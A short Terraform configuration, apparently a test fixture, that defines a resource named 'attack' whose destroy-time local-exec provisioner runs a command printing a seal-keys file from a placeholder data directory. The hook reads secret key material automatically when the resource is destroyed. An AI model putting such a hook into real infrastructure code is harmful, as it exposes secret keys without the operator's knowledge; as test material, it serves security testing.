resource "terraform_data" "attack" {
  provisioner "local-exec" {
    when    = destroy
    command = "cat @DATA@/seal_keys"
  }
}
